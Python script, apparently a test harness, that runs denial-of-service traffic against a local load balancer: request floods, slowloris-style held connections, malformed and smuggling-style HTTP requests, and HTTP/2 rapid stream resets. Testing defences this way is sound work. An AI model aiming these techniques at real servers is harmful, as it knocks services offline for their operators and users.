"""The attack of the day, from addresses that no client has: attack.py SECONDS HTTP_PORT TLS_PORT.

A flood of one location, heads that never end, requests that are none, and streams of HTTP/2 that are reset at once.
"""

import random
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection

RATE = 150
SILENT = 200


def connect(address, port):
    return socket.create_connection(("127.0.0.1", port), 5, source_address=(address, 0))


def until(end, pause, work):
    """Does it again and again; what the balancer does with it is not the attacker's concern."""
    while time.monotonic() < end:
        try:
            work()
        except (OSError, ssl.SSLError):
            pass
        time.sleep(pause)


def flood(port):
    with connect("127.66.0.1", port) as sock:
        for _ in range(20):
            sock.sendall(b"GET /login HTTP/1.1\r\nHost: a.test\r\n\r\n")
            if not sock.recv(65_536):
                break
            time.sleep(1 / RATE)


def silent(port, held):
    held.append(connect("127.66.0.2", port))
    held[-1].sendall(b"GET / HTTP/1.1\r\nHost: a.test\r\nX-Slow: ")
    for sock in held[-SILENT:]:
        try:
            sock.sendall(b"x")
        except OSError:
            pass
    while len(held) > SILENT:
        held.pop(0).close()


def malformed(port):
    with connect("127.66.0.3", port) as sock:
        sock.sendall(random.choice((b"GET / HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
                                    b"\x16\x03\x01" + random.randbytes(200), b"GET " + b"a" * 70_000 + b"\r\n\r\n",
                                    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n", random.randbytes(500))))
        sock.recv(65_536)


def resets(port, tls):
    sock = tls.wrap_socket(connect("127.66.0.4", port))
    with sock:
        client = h2.connection.H2Connection(h2.config.H2Configuration())
        client.initiate_connection()
        for _ in range(100):
            stream = client.get_next_available_stream_id()
            client.send_headers(stream, [(":method", "GET"), (":scheme", "https"), (":authority", "a.test"), (":path", "/")])
            client.reset_stream(stream)
        sock.sendall(client.data_to_send())
        sock.recv(65_536)


def main(seconds, http, tls_port):
    end = time.monotonic() + seconds
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.set_alpn_protocols(["h2"])
    held = []
    threads = [threading.Thread(target=until, args=(end, pause, work)) for pause, work in (
        (0.01, lambda: flood(http)), (0.02, lambda: silent(http, held)), (0.05, lambda: malformed(http)),
        (0.5, lambda: resets(tls_port, tls)))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main(float(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]))
